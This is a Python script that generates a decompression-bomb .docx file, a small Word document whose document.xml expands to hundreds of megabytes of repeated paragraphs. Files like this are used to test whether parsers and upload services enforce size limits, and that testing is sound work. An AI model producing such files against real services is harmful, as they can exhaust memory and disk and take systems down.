#!/usr/bin/python3
"""make_bomb_docx.py OUTPUT [MEGABYTES]: a .docx whose document.xml unpacks to MEGABYTES
(default 400) of repeated paragraphs while the file itself stays a few hundred kilobytes."""
import sys
import zipfile

CONTENT_TYPES = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
</Types>"""
RELS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>
</Relationships>"""
HEAD = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body>")
PARAGRAPH = "<w:p><w:r><w:t>" + "Velmora zip bomb line of text. " * 30 + "</w:t></w:r></w:p>"
TAIL = "</w:body></w:document>"


def main():
    output = sys.argv[1]
    megabytes = int(sys.argv[2]) if len(sys.argv) > 2 else 400
    block = (PARAGRAPH * 1000).encode()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as docx:
        docx.writestr("[Content_Types].xml", CONTENT_TYPES)
        docx.writestr("_rels/.rels", RELS)
        with docx.open("word/document.xml", "w", force_zip64=True) as document:
            document.write(HEAD.encode())
            for _ in range(megabytes * 1024 * 1024 // len(block)):
                document.write(block)
            document.write(TAIL.encode())


if __name__ == "__main__":
    main()
